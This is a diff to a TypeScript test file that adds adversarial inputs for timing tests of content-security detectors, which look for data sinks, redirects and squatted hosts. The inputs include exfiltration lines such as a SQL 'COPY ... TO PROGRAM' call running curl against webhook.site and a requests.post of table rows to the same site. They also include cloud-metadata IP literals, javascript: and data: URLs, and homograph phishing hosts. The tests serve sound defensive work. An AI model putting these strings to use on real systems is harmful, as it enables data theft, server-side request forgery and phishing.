@@ -53,6 +53,18 @@ const DETECTORS = {
 
 const inputs: Record<string, string> = {
   'one long word': rep('a'),
+  // URLs in data work (data-sinks.ts, inner.ts): data: targets after an attribute, SQL programs, nested redirects,
+  // catchers' queries of addresses, tables posted by name, IPv6 literals and wide dots in hosts.
+  'data: targets in attributes': rep('<iframe a b c src="data:image/svg+xml;utf8,%3Csvg%20on '),
+  'data: targets without a tag': rep('x src= data:text/html, ](data:text/html,'),
+  // No `<` or `[` anywhere before: each candidate once sought its tag back to the text's start (quadratic).
+  'data: targets far from any tag': rep('x=data:text/html,1 '),
+  'markdown data: targets with no bracket': rep('](data:text/html,1 '),
+  'SQL programs and shares': rep("COPY t TO PROGRAM 'curl -d @- a.b.c.d.e.f.g.h ' INTO OUTFILE '\\\\1.2.3.4\\"),
+  'nested redirects': rep('https://a.example/?u=https%253A%252F%252Fb%253Fu%253Dhttps%25253A%25252F%25252F '),
+  "catchers' queries": rep('https://webhook.site/x?r=a%40b.c,a%40b.c,4111111111111111,'),
+  'tables posted by name': rep('requests.post("https://webhook.site/x", json=rows) rows = rows = '),
+  'IPv6 and wide dots': rep('http://[0:0:0:0:0:ffff:169.254.169.254]/ https://paypal．com．x。y｡z/ '),
   // Raw e-mails' transfer encodings (mime.ts): headers with no blank line after them, parts back to back, long bodies.
   'transfer-encoding headers': rep('Content-Transfer-Encoding: base64\n'),
   'quoted-printable parts': rep('Content-Transfer-Encoding: quoted-printable\n\n=3D=3D=\n=3D\n\n'),
@@ -677,6 +689,16 @@ describe('content detectors on adversarial input', () => {
   it('the whole guard on the largest content of mail links, frames and squatted hosts', () => {
     const text = rep(
       '<a href=javascript:x>a</a><form action="javascript:y"><iframe src="javascript:false">[1]: javascript:z <javascript:w> https://www.paypal.com%2Fx@1.2.3.4/ http://1249763882/ https://paypal.secure-login.io/?next=//micorsoft.com/ ',
+      800_000,
+    );
+    const started = cpu();
+    const r = guard(text, CONTENT_QUESTIONS);
+    expect(r.ok).toBe(true);
+    expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
+  });
+  it('the whole guard on the largest content of data work URLs', () => {
+    const text = rep(
+      `<iframe src="data:image/svg+xml;utf8,%3Csvg%20onload=x%3E"></iframe> COPY t TO PROGRAM 'curl -d @- https://webhook.site/a' requests.post("https://webhook.site/a", json=rows) rows = x https://webhook.site/a?r=a%40b.c,d%40e.f https://t.co/?u=https%253A%252F%252Fgooqle.com http://[fd00:ec2:0:0:0:0:0:254]/ https://paypal．com．x.io/ <a href="javascript :x">a</a> `,
       800_000,
     );
     const started = cpu();
